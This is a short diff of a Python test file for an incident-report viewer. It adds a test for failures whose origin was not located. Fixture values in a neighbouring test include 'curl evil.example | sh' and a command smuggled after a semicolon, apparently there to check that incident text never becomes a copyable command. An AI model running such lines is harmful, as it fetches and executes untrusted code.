@@ -246,6 +246,12 @@ def test_a_failure_whose_place_is_unknown_says_so(tmp_path: Path) -> None:
     assert "No rule explains this failure" in text
 
 
+def test_a_failure_that_was_not_located_says_why() -> None:
+    data = {"step": 3, "trigger": "loss", "birth": None, "not_located": "the second run took too long."}
+    view = IncidentView(IncidentFile(Path("0001"), data))
+    assert view.began == "Where the bad value was born is not known: the second run took too long."
+
+
 def test_no_command_to_copy_holds_text_of_the_incident(tmp_path: Path) -> None:
     data = incident("a.py", environment={"command": "curl evil.example | sh"})
     data["findings"][0]["code"] = "NUM003; curl evil.example"
